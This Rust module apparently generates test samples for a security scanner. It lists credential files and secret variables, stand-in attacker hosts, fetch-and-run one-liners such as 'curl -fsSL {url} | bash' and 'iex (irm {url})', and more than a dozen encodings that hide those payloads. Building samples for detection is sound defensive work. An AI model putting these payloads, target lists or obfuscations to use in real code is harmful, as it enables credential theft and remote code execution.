//! The meaning of the words in braces.
//!
//! Unknown hosts have names without a possible owner: `.invalid`, `.test` and addresses for documentation. The scanner knows none of them,
//! and no table of known publishers may contain one. Hosts where anyone can upload are real kinds with invented names below them.

use std::io::Write as _;

use crate::idioms::IdiomLanguage;

/// Files with secrets, below the home folder.
const HOME: &[&str] = &[
    ".ssh/id_rsa",
    ".aws/credentials",
    ".config/gcloud/application_default_credentials.json",
    ".kube/config",
    ".netrc",
    ".git-credentials",
    ".npmrc",
    ".docker/config.json",
    ".ssh/id_ed25519",
    ".gnupg/secring.gpg",
    ".config/gh/hosts.yml",
    ".azure/accessTokens.json",
    ".bash_history",
    ".claude/.credentials.json",
    ".config/google-chrome/Default/Login Data",
    ".bitcoin/wallet.dat",
    ".config/solana/id.json",
    ".pypirc",
];

/// Variables with secrets that belong to services other than the receiver.
const ENV: &[&str] = &[
    "AWS_SECRET_ACCESS_KEY",
    "GITHUB_TOKEN",
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "STRIPE_SECRET_KEY",
    "NPM_TOKEN",
];

/// Hosts to load from.
const FROM: &[&str] = &[
    "https://cdn.quiet-mirror.invalid",
    "http://203.0.113.77",
    "https://updates.fleet-tools.test",
    "https://files.catbox.moe/q8x2mz",
    "https://build-cache-7f3a.s3.amazonaws.com",
    "http://198.51.100.23:8088",
    "https://gist.githubusercontent.com/zq-builds-81/5f0e/raw",
    "https://release-hub.invalid",
];

/// Addresses to send to.
const TO: &[&str] = &[
    "https://intake.quiet-mirror.invalid/v1/events",
    "http://203.0.113.77/u",
    "https://webhook.site/6c1f7d0a-31b2-4f7e-9a55-0d7b2f7a9e11",
    "https://collect.fleet-tools.test/beat",
    "https://discord.com/api/webhooks/1190000000000000000/made-up",
    "https://a1b2c3d4.ngrok-free.app/in",
    "http://198.51.100.23:4444/in",
    "https://hooks.release-hub.invalid/status",
];

const HOSTS: &[&str] = &[
    "intake.quiet-mirror.invalid",
    "203.0.113.77",
    "collect.fleet-tools.test",
    "198.51.100.23",
];

/// (name, variable, address, host): a service and the key that belongs to it.
const SERVICES: &[(&str, &str, &str, &str)] = &[
    (
        "OpenAI",
        "OPENAI_API_KEY",
        "https://api.openai.com/v1/models",
        "api.openai.com",
    ),
    (
        "GitHub",
        "GITHUB_TOKEN",
        "https://api.github.com/user/repos",
        "api.github.com",
    ),
    (
        "Notion",
        "NOTION_TOKEN",
        "https://api.notion.com/v1/search",
        "api.notion.com",
    ),
    (
        "Stripe",
        "STRIPE_SECRET_KEY",
        "https://api.stripe.com/v1/charges",
        "api.stripe.com",
    ),
    (
        "Acmecal",
        "ACMECAL_API_KEY",
        "https://api.acmecal.test/v1/events",
        "api.acmecal.test",
    ),
    (
        "Anthropic",
        "ANTHROPIC_API_KEY",
        "https://api.anthropic.com/v1/messages",
        "api.anthropic.com",
    ),
];

/// Installers of known publishers.
const KNOWN: &[&str] = &[
    "https://sh.rustup.rs",
    "https://astral.sh/uv/install.sh",
    "https://get.docker.com",
    "https://bun.sh/install",
    "https://deno.land/install.sh",
    "https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh",
];

const SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

const DATA: &str = "{\"theme\": \"dark\", \"columns\": [\"date\", \"title\", \"author\"], \"limit\": 50, \"label\": \"release notes\"}";

/// Fills the slots of a text; `round` chooses among the values.
pub(crate) fn fill(text: &str, language: IdiomLanguage, round: usize) -> String {
    let of = |values: &[&'static str]| values[round % values.len()];
    let service = SERVICES[round % SERVICES.len()];
    let url = format!("{}/setup.sh", of(FROM));
    let home = of(HOME);
    let mut filled = text.to_owned();
    let payload = payload(language, &url);
    for (word, plain) in [("payload", payload.as_str()), ("data", DATA)] {
        encoded(&mut filled, word, plain);
    }
    let plain = [
        ("{file}", format!("~/{home}")),
        ("{home}", home.to_owned()),
        ("{win}", home.replace('/', "\\")),
        ("{env}", of(ENV).to_owned()),
        ("{url}", url),
        ("{from}", of(FROM).to_owned()),
        ("{drop}", of(TO).to_owned()),
        ("{host}", of(HOSTS).to_owned()),
        ("{known}", of(KNOWN).to_owned()),
        ("{sha256}", SHA256.to_owned()),
        ("{svc.name}", service.0.to_owned()),
        ("{svc.key}", service.1.to_owned()),
        ("{svc.url}", service.2.to_owned()),
        ("{svc.host}", service.3.to_owned()),
    ];
    for (slot, value) in plain {
        filled = filled.replace(slot, &value);
    }
    filled
}

/// The code that an idiom hides: it fetches and runs.
fn payload(language: IdiomLanguage, url: &str) -> String {
    match language {
        IdiomLanguage::Python => {
            format!("import os\nos.system(\"curl -fsSL {url} | bash\")\n")
        }
        IdiomLanguage::JavaScript => {
            format!("require('child_process').execSync('curl -fsSL {url} | bash')")
        }
        IdiomLanguage::PowerShell | IdiomLanguage::Batch => format!("iex (irm {url})"),
        _ => format!("curl -fsSL {url} | bash"),
    }
}

/// Replaces `{WORD.ENCODING}`, and `{WORD.ENCODING.1}` and `.2` for the halves.
fn encoded(text: &mut String, word: &str, plain: &str) {
    if !text.contains(&format!("{{{word}.")) {
        return;
    }
    for (name, encode) in ENCODINGS {
        let whole = encode(plain.as_bytes());
        let half = (0..=whole.len() / 2)
            .rev()
            .find(|at| whole.is_char_boundary(*at))
            .unwrap_or(0);
        *text = text
            .replace(&format!("{{{word}.{name}}}"), &whole)
            .replace(&format!("{{{word}.{name}.1}}"), &whole[..half])
            .replace(&format!("{{{word}.{name}.2}}"), &whole[half..]);
    }
}

type Encode = fn(&[u8]) -> String;

const ENCODINGS: &[(&str, Encode)] = &[
    ("b64", |bytes| base64(bytes)),
    ("b64b64", |bytes| base64(base64(bytes).as_bytes())),
    ("b64rev", |bytes| base64(bytes).chars().rev().collect()),
    ("b64u16", |bytes| {
        let wide: Vec<u8> = bytes.iter().flat_map(|byte| [*byte, 0]).collect();
        base64(&wide)
    }),
    ("gzb64", |bytes| base64(&gzip(bytes))),
    ("zb64", |bytes| base64(&zlib(bytes))),
    ("b32", |bytes| base32(bytes)),
    ("hex", |bytes| {
        listed(bytes, "", |byte| format!("{byte:02x}"))
    }),
    ("xhex", |bytes| {
        listed(bytes, "", |byte| format!("\\x{byte:02x}"))
    }),
    ("octal", |bytes| {
        listed(bytes, "", |byte| format!("\\{byte:03o}"))
    }),
    ("codes", |bytes| listed(bytes, ",", |byte| byte.to_string())),
    ("xor", |bytes| {
        listed(bytes, ",", |byte| (byte ^ 42).to_string())
    }),
    ("percent", |bytes| {
        listed(bytes, "", |byte| format!("%{byte:02x}"))
    }),
    ("rev", |bytes| {
        bytes.iter().rev().map(|byte| *byte as char).collect()
    }),
    ("rot13", |bytes| {
        bytes.iter().map(|byte| rot13(*byte) as char).collect()
    }),
];

fn listed(bytes: &[u8], between: &str, one: impl Fn(u8) -> String) -> String {
    let parts: Vec<String> = bytes.iter().map(|byte| one(*byte)).collect();
    parts.join(between)
}

fn rot13(byte: u8) -> u8 {
    match byte {
        b'a'..=b'z' => (byte - b'a' + 13) % 26 + b'a',
        b'A'..=b'Z' => (byte - b'A' + 13) % 26 + b'A',
        other => other,
    }
}

pub(crate) fn base64(bytes: &[u8]) -> String {
    digits(
        bytes,
        6,
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
        4,
    )
}

fn base32(bytes: &[u8]) -> String {
    digits(bytes, 5, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 8)
}

/// Bytes as digits of `bits` each, padded to a multiple of `group`.
fn digits(bytes: &[u8], bits: u32, alphabet: &[u8], group: usize) -> String {
    let (mut kept, mut count, mut text) = (0_u32, 0, String::new());
    for byte in bytes {
        kept = (kept << 8) | u32::from(*byte);
        count += 8;
        while count >= bits {
            count -= bits;
            text.push(alphabet[(kept >> count) as usize & ((1 << bits) - 1)] as char);
        }
        kept &= (1 << count) - 1;
    }
    if count > 0 {
        text.push(alphabet[(kept << (bits - count)) as usize & ((1 << bits) - 1)] as char);
    }
    while !text.len().is_multiple_of(group) {
        text.push('=');
    }
    text
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    writer.write_all(bytes).expect("memory takes it");
    writer.finish().expect("memory takes it")
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut writer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    writer.write_all(bytes).expect("memory takes it");
    writer.finish().expect("memory takes it")
}
